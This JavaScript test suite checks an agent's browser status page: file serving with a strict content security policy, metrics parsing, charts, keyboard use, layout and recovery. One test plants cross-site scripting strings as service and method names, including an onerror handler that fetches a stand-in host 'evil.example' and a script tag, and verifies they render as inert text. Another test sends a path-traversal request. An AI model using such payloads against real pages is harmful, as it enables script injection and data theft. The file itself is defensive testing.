'use strict';
// The status page at GET /, as people see it in a browser.

const assert = require('node:assert/strict');
const fs = require('node:fs');
const path = require('node:path');
const { startAgent } = require('./lib/agent');
const { Browser } = require('./lib/browser');
const { RawConsumer } = require('./lib/raw-consumer');
const { RawProvider } = require('./lib/raw-provider');
const { ORDERS, PAYMENTS, STOCK, manyServices, threeServices } = require('./lib/scenes');
const { freePort, scenario } = require('./lib/stage');
const { eventually } = require('./lib/wait');
const { startZooKeeper } = require('./lib/zookeeper');

const SOURCES = path.resolve(__dirname, '../../agent/status_page');
const TYPES = { '.html': 'text/html', '.css': 'text/css', '.mjs': 'text/javascript', '.svg': 'image/svg+xml' };
const PHONE = { width: 375, height: 812, isPhone: true };
const LIMIT_MS = 300_000;

// Nothing went wrong in the page, and nothing was asked of anybody but its agent.
function assertQuiet(page, agent) {
  assert.deepEqual(page.problems, []);
  assert.ok(page.requests.length > 3);
  assert.deepEqual(page.requests.filter((url) => new URL(url).origin !== agent.url), []);
}

const widths = () => [document.documentElement.scrollWidth, window.innerWidth];

async function assertFits(page) {
  const [width, window] = await page.evaluate(widths);
  assert.ok(width <= window, `the page is ${width} px wide, the window ${window}`);
}

scenario('The files of the status page', ({ stage, before, it }) => {
  let agent;
  before(async () => { agent = await startAgent(stage); });

  it('are served as they are, with a policy that allows nothing from elsewhere', async () => {
    for (const name of fs.readdirSync(SOURCES)) {
      const { status, headers, type, text } = await agent.get(name === 'index.html' ? '/' : `/page/${name}`);
      assert.equal(status, 200, name);
      assert.equal(type, TYPES[path.extname(name)], name);
      assert.equal(text, fs.readFileSync(path.join(SOURCES, name), 'utf8'), name);
      assert.match(headers.get('content-security-policy'), /default-src 'none'.*script-src 'self'.*frame-ancestors 'none'/);
      assert.doesNotMatch(headers.get('content-security-policy'), /unsafe|http|data:|\*/);
      assert.equal(headers.get('x-content-type-options'), 'nosniff');
      assert.equal(headers.get('cache-control'), 'no-cache');
    }
    assert.equal((await agent.get('/page/none.mjs')).status, 404);
    assert.equal((await agent.get('/page/..%2f..%2fmain.cpp')).status, 404);
  });

  it('are not sent again to who has them', async () => {
    for (const name of ['/', '/page/main.mjs']) {
      const etag = (await agent.get(name)).headers.get('etag');
      const again = await fetch(agent.url + name, { headers: { 'If-None-Match': etag } });
      assert.deepEqual([again.status, await again.text()], [304, '']);
      const other = await fetch(agent.url + name, { headers: { 'If-None-Match': '"other"' } });
      assert.equal(other.status, 200);
      assert.equal(other.headers.get('etag'), etag);
    }
  });
});

scenario('What the page reads from metrics', ({ before, it }) => {
  let metrics;
  let history;
  before(async () => {
    metrics = await import(path.join(SOURCES, 'metrics.mjs'));
    history = await import(path.join(SOURCES, 'history.mjs'));
  });

  const WITH_OUTCOMES = `# HELP skiff_requests_total Requests
# TYPE skiff_requests_total counter
skiff_requests_total{interface="a.B",method="hi",outcome="ok"} 90
skiff_requests_total{interface="a.B",method="hi",outcome="timeout"} 6
skiff_requests_total{interface="a.B",method="note",outcome="one_way"} 4
skiff_request_duration_seconds_bucket{interface="a.B",le="0.001"} 50
skiff_request_duration_seconds_bucket{interface="a.B",le="0.01"} 90
skiff_request_duration_seconds_bucket{interface="a.B",le="+Inf"} 100
skiff_request_duration_seconds_count{interface="a.B"} 100
skiff_outbound_in_flight 7 1700000000000
`;

  it('are requests and failures by outcome, and times', () => {
    const { services, all } = metrics.readTraffic(WITH_OUTCOMES);
    const { requests, failures, methods, buckets } = services.get('a.B');
    assert.deepEqual([requests, failures, all.outboundInFlight], [100, 6, 7]);
    assert.deepEqual(Object.fromEntries(methods), { hi: { requests: 96, failures: 6 }, note: { requests: 4, failures: 0 } });
    assert.equal(metrics.quantile(buckets, 0.5), 0.001);
    assert.ok(Math.abs(metrics.quantile(buckets, 0.7) - 0.0055) < 1e-9);
    assert.equal(metrics.quantile(buckets, 0.99), 0.01, 'nothing is known beyond the last bound');
    assert.equal(metrics.quantile(new Map(), 0.5), null);
  });

  it('is what can be read of them, whatever a label holds', () => {
    const text = 'skiff_requests_total{interface="a\\"} 1,\\\\\\n{b=\\"c\\"",method="<b>"} 5\nskiff_requests_total{interface="x" nonsense\nskiff_requests_total{} \n{}\n\nskiff_requests_total';
    const { services } = metrics.readTraffic(text);
    assert.deepEqual([...services.keys()], ['a"} 1,\\\n{b="c"']);
    assert.equal(services.get('a"} 1,\\\n{b="c"').methods.get('<b>').requests, 5);
  });

  it('becomes rates, also when a counter begins anew', () => {
    const past = new history.History();
    const sample = (requests, failures) => metrics.readTraffic(`skiff_requests_total{interface="a",method="m",outcome="ok"} ${requests - failures}\nskiff_requests_total{interface="a",method="m",outcome="timeout"} ${failures}\n`);
    past.add(0, sample(100, 0));
    assert.equal(past.services.get('a').now().rate, null);
    past.add(2_000, sample(120, 5));
    assert.equal(past.services.get('a').now().rate, 10);
    assert.equal(past.services.get('a').now().failed, 0.25);
    past.add(4_000, sample(2, 0));
    assert.equal(past.services.get('a').now().rate, null);
    past.add(6_000, sample(6, 0));
    assert.equal(past.services.get('a').now().rate, 2);
    assert.deepEqual(past.services.get('a').rate, [null, 10, null, 2]);
    assert.deepEqual(past.services.get('a').methods()[0], { method: 'm', rate: 2, failed: 0, requests: 6 });
  });
});

scenario('The status page', ({ stage, before, it }) => {
  let browser;
  before(async () => { browser = await Browser.start(stage); });

  it('of an agent without services says what to do next, and shows what comes of it', async () => {
    const agent = await startAgent(stage);
    const page = await browser.open(`${agent.url}/`);
    await page.shows('#state', /^ready$/);
    await page.shows('#empty', /Nothing is published/);
    const command = await page.text('#empty-publish');
    const [, url, body] = /^curl -sS (\S+) -d '(.*)'$/.exec(command);
    assert.equal(url, `127.0.0.1:${agent.api}/publish`);
    assert.ok((await page.text('#empty')).includes(`127.0.0.1:${agent.outbound}`));
    await assertFits(page);
    assert.ok([200, 202].includes((await agent.post('/publish?wait=0', body)).status));
    await page.shows('#published-rows', /DemoService.*pending/);
    await page.eventually('the first steps are gone', () => document.getElementById('empty').hidden);
    assertQuiet(page, agent);
  }, LIMIT_MS);

  it('of an agent with traffic shows services, providers, registry, events, and explains', async () => {
    const { agent } = await threeServices(stage, { factor: 0.5 });
    const page = await browser.open(`${agent.url}/`);
    for (const name of [ORDERS, STOCK, PAYMENTS]) await page.shows('#traffic-rows > tr', new RegExp(name.replaceAll('.', '\\.')));
    await page.eventually('traffic is charted, with failures of one service', (name) => {
      const rows = [...document.querySelectorAll('#traffic-rows > tr')];
      const failed = rows.find((row) => row.innerText.includes(name))?.querySelector('.number.failed');
      return failed?.classList.contains('bad') && rows.every((row) => Number(row.querySelector('.number.rate').innerText) > 0 && row.querySelector('.line.rate').getAttribute('d').includes('L'));
    }, PAYMENTS);
    await page.shows('#published-rows details', /RefundService.*down.*pending.*Connection refused/);
    await page.shows('#published-rows details', /OrderService.*up.*registered/);
    await page.shows('#notices', /1 published service down/);
    await page.shows('#subscribed-rows details', /StockService.*3 providers: .*1 down/);
    await page.shows('#subscribed-rows tr', /gray/);
    await page.shows('#subscribed-rows tr', /down: connection refused/);
    await page.shows('#registry-rows', /zookeeper:.*connected.*advertised as/);
    await page.shows('#listener-rows', new RegExp(`outbound\\s+127.0.0.1:${agent.outbound}`));
    await page.shows('#event-rows li', /warning.*PaymentService.*no answer/);

    // From a service's row to its methods, to the explanation of one, by the keyboard alone.
    await page.evaluate((name) => [...document.querySelectorAll('#traffic-rows .open')].find((button) => button.innerText.includes(name)).focus(), STOCK);
    await page.press('Enter');
    await page.eventually('the methods are there', () => document.querySelector('[data-method="reserve"]'));
    await page.evaluate(() => document.querySelector('[data-method="reserve"]').focus());
    await page.press('Enter');
    assert.equal(await page.evaluate(() => document.querySelector('[name="interface"]').value), STOCK);
    await page.evaluate(() => document.querySelector('[name="attachments"]').focus());
    await page.type('dubbo.tag=gray');
    await page.evaluate(() => document.querySelector('#explain-form button').focus());
    await page.press('Enter');
    await page.shows('#explanation', /StockService.*method reserve.*tags of providers.*narrowed: tag gray.*100\.0 %/);
    await page.evaluate(() => { document.querySelector('[name="attachments"]').value = 'no equals sign'; });
    await page.press('Enter');
    await page.shows('#explanation', /expected key=value/);
    await page.evaluate(() => { document.querySelector('[name="attachments"]').value = ''; document.querySelector('[name="group"]').value = 'nowhere'; });
    await page.press('Enter');
    await page.shows('#explanation', /group "?'?nowhere/);

    // "/" leads to the search from anywhere but a text field.
    await page.press('/');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'filter');
    await page.type('stock');
    await page.eventually('one service is left', () => document.querySelectorAll('#traffic-rows > tr').length === 1 && document.querySelectorAll('#published-rows details').length === 0);
    await page.shows('#traffic-count', /^1 of 3$/);
    await page.press('Escape');
    await page.eventually('all are back', () => document.querySelectorAll('#traffic-rows > tr').length === 3);

    await page.evaluate(() => document.getElementById('events-serious').click());
    await page.eventually('only warnings are shown', () => [...document.querySelectorAll('#event-rows .mark')].every((one) => one.innerText !== 'info'));
    await assertFits(page);
    await page.resize(PHONE);
    await assertFits(page);
    // The refused question is a 404, which a browser reports by itself.
    page.problems = page.problems.filter((problem) => !/status of 404.*\/explain\?/.test(problem));
    assertQuiet(page, agent);
  }, LIMIT_MS);

  it('of an agent with 200 services shows the busiest first, and finds the others', async () => {
    const { agent, names } = await manyServices(stage, 200);
    const page = await browser.open(`${agent.url}/`, { ...PHONE, scheme: 'dark' });
    await page.shows('#subscribed-count', /^200$/);
    await page.eventually('the busiest is the first', (name) => document.querySelector('#traffic-rows .open')?.innerText.includes(name), names[0]);
    assert.equal(await page.evaluate(() => document.querySelectorAll('#subscribed-rows details').length), 25);
    await page.evaluate(() => document.querySelector('#subscribed-more button').click());
    await page.eventually('all are shown', () => document.querySelectorAll('#subscribed-rows details').length === 200);
    const rows = await page.evaluate(() => { window.rows = [...document.querySelectorAll('#traffic-rows > tr')]; return window.rows.length; });
    assert.equal(rows, 25);
    const updates = page.requests.length;
    await eventually(async () => page.requests.length >= updates + 4, 'the page has looked twice', 60_000);
    assert.ok(await page.evaluate(() => window.rows.filter((row) => row.isConnected).length >= 15), 'rows are kept');
    const last = names[199];
    await page.evaluate(() => document.getElementById('filter').focus());
    await page.type(last.toLowerCase());
    await page.eventually('it is found', (name) => {
      const found = [...document.querySelectorAll('#subscribed-rows details')];
      return found.length === 1 && found[0].innerText.includes(name);
    }, last);
    await assertFits(page);

    const [back, text] = await page.evaluate(() => {
      const { backgroundColor, color } = getComputedStyle(document.body);
      return [backgroundColor, color].map((rgb) => Math.max(...rgb.match(/\d+/g).map(Number)));
    });
    assert.ok(back < 40 && text > 200, `light on dark: ${text} on ${back}`);
    assertQuiet(page, agent);
  }, LIMIT_MS);

  it('shows hostile names and errors as the text that they are', async () => {
    const zookeeper = await startZooKeeper(stage);
    const agent = await startAgent(stage, { registry: zookeeper.registry });
    const silent = await RawProvider.start(stage, () => {});
    const [tag, application] = ['<img src>', '<script>planted</script>'];
    await zookeeper.register(STOCK, { port: silent.port, parameters: { application, timeout: '50', retries: '0' } });
    await zookeeper.register(STOCK, { port: await freePort(), parameters: { 'dubbo.tag': tag } }); // gets no request without this tag
    await agent.subscribe({ interface: STOCK }, 2);
    const consumer = await RawConsumer.connect(stage, agent.outbound);
    const hostile = '<img src=x onerror=fetch("//evil.example/")>\u202e{{1}}</script><b id=planted>';
    assert.equal((await consumer.call({ service: STOCK, method: hostile })).status, 31);
    const page = await browser.open(`${agent.url}/`);
    await page.shows('#event-rows', /onerror=fetch/);
    await page.shows('#traffic-rows', /StockService/);
    await page.evaluate(() => { document.querySelector('#traffic-rows .open').click(); });
    await page.shows('#traffic-rows .methods', /<img src=x onerror=/);
    await page.shows('#subscribed-rows .providers', /(<img src>.*<script>planted|<script>planted.*<img src>)/);
    await page.evaluate((name) => {
      const form = document.getElementById('explain-form');
      form.elements.interface.value = `${name}<b id=planted>`;
      form.requestSubmit();
    }, STOCK);
    await page.shows('#explanation', /<b id=planted>/);
    assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll('main img, main script, #planted')].map((one) => one.outerHTML)), []);
    await assertFits(page);
    await page.resize(PHONE);
    await assertFits(page);
    page.problems = page.problems.filter((problem) => !/status of 404.*\/explain\?/.test(problem));
    assertQuiet(page, agent);
  }, LIMIT_MS);

  it('says when the agent is gone, and goes on with its successor', async () => {
    const agent = await startAgent(stage);
    await agent.publish({ interface: 'com.example.Kept', check: { type: 'none' } });
    const page = await browser.open(`${agent.url}/`);
    await page.shows('#published-rows', /Kept/);
    assertQuiet(page, agent);
    await agent.stop();
    await page.shows('#notices', /No answer from the agent since/);
    await page.shows('#state', /^no answer$/);
    assert.match(await page.text('#published-rows'), /Kept/, 'what was known stays');
    const successor = await startAgent(stage, { ports: { api: agent.api, outbound: agent.outbound, inbound: agent.inbound }, stateDir: agent.stateDir });
    await successor.publish({ interface: 'com.example.New', check: { type: 'none' } });
    await page.shows('#state', /^ready$/);
    await page.shows('#published-rows', /Kept.*New/);
    await page.eventually('no notice is left', () => document.getElementById('notices').children.length === 0);
  }, LIMIT_MS);

  it('pauses, and looks again when it is told to', async () => {
    const agent = await startAgent(stage);
    const page = await browser.open(`${agent.url}/`);
    await page.shows('#state', /^ready$/);
    await page.evaluate(() => document.getElementById('pause').click());
    await page.shows('#updated', /^paused at/);
    await agent.publish({ interface: 'com.example.Later', check: { type: 'none' } });
    assert.doesNotMatch(await page.text('#published-rows'), /Later/);
    await page.evaluate(() => document.getElementById('pause').click());
    await page.shows('#published-rows', /Later/);
    assertQuiet(page, agent);
  }, LIMIT_MS);
});
